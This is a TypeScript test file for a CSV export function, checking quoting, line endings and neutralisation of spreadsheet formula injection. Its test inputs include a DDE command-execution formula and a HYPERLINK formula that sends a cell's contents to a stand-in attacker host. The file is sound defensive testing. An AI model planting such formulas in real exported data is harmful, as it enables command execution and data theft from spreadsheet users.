import { toCsv } from '@keyward/shared/csv';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

const cellOf = (text: string) => toCsv([[text]]).slice(0, -2);

/** Reads CSV back as RFC 4180 has it. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

test('rows end with CRLF, and nothing stands for null', () => {
  expect(
    toCsv([
      ['time', 'calls'],
      ['2027-02-19T14:00:00.000Z', 3],
      [null, 0],
    ]),
  ).toBe('time,calls\r\n2027-02-19T14:00:00.000Z,3\r\n,0\r\n');
  expect(toCsv([])).toBe('');
});

test.each([
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', '"two\nlines"'],
  ['plain text', 'plain text'],
  ['', ''],
])('%j is written as %j', (text, written) => {
  expect(cellOf(text)).toBe(written);
});

describe('23: text that begins a formula', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u00a0=1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
  ])('%j is put behind an apostrophe', (text) => {
    expect(parse(toCsv([[text, 'next']]))).toEqual([[`'${text}`, 'next']]);
  });

  test.each(['203.0.113.9', '2001:db8::1', '::1', 'a=b', '1-2', 'ada@example.com'])(
    '%j begins none and stays as it is',
    (text) => {
      expect(cellOf(text)).toBe(text);
    },
  );
});

test('a number stays a number, a negative one too', () => {
  expect(toCsv([[-5, 1e21]])).toBe('-5,1e+21\r\n');
});

test('whatever stands in a cell, it is read back as that cell, and none begins a formula', () => {
  fc.assert(
    fc.property(
      fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), {
        maxLength: 4,
      }),
      (rows) => {
        const read = parse(toCsv(rows));
        expect(read.map((row) => row.length)).toEqual(rows.map((row) => row.length));
        for (const [index, cell] of read.flat().entries()) {
          const text = rows.flat()[index];
          expect([text, `'${text}`]).toContain(cell);
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      },
    ),
    { seed: 20_260_615, numRuns: 300 },
  );
});
